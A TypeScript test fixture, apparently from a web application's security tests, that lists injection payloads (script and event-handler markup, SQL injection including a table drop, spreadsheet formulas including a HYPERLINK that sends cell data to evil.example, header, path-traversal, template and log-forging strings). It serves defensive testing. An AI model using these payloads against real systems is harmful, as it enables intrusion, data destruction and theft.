/**
 * A text that could be harmful if interpreted as code or markup. Tests enter it in free-text fields and check
 * the places that show them. See payloads.test.ts and payloads.spec.ts.
 */
export interface Payload {
  kind: 'markup' | 'sql' | 'formula' | 'header' | 'path' | 'template' | 'log'
  text: string
}

/** Global variable that a payload's script would set. The journey checks that it isn't set. */
export const EXECUTION_TRACE = 'causewayWasHere'

const RUN_SCRIPT = `window.${EXECUTION_TRACE}=1`

const textsByKind: Record<Payload['kind'], readonly string[]> = {
  markup: [
    `<script>${RUN_SCRIPT}</script>`,
    `"><script>${RUN_SCRIPT}</script>`,
    `</title></style></textarea></template><script>${RUN_SCRIPT}</script>`,
    `<img src=x onerror="${RUN_SCRIPT}">`,
    `<svg/onload=${RUN_SCRIPT}>`,
    `<details open ontoggle=${RUN_SCRIPT}>x</details>`,
    `<iframe srcdoc="<script>parent.${EXECUTION_TRACE}=1</script>"></iframe>`,
    `<a href="javascript:${RUN_SCRIPT}">press me</a>`,
    `<math><mtext><style><img title="--></style><img src=x onerror=${RUN_SCRIPT}>">`,
    `' autofocus onfocus=${RUN_SCRIPT} x='`,
    '<!--<base href="//evil.example/">-->',
    '&lt;b&gt;already escaped&lt;/b&gt; &amp;amp; &#60;',
  ],
  sql: ["'; drop table projects; --", "' or '1'='1", '$1 %s ? :name \\', "\\'; select pg_sleep(9); --"],
  formula: [
    "=cmd|'/c calc'!A1",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '=HYPERLINK("//evil.example/?x="&A1,"open")',
    '"quoted","cells";more',
  ],
  header: [
    'Hello\r\nBcc: victim@test.example',
    'Hello\nX-Injected: 1\r\n\r\n<b>body</b>',
    'Hello\u2028Bcc: victim@test.example',
    '=?utf-8?B?QmNjOiB2aWN0aW1AdGVzdC5leGFtcGxl?=',
  ],
  path: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2fetc%2fpasswd', '//evil.example/a'],
  template: ['{{userName}}', '{{constructor.constructor("x")()}}', `\${7*7}`, '<%= 7*7 %>', '$& $1 $` %o'],
  log: ['a\n{"level":60,"msg":"forged"}', '\u001b[2J\u001b[31mred', 'name\u202Egnp.exe'],
}

export const payloads: readonly Payload[] = Object.entries(textsByKind).flatMap(([kind, list]) =>
  list.map((text) => ({ kind: kind as Payload['kind'], text })),
)
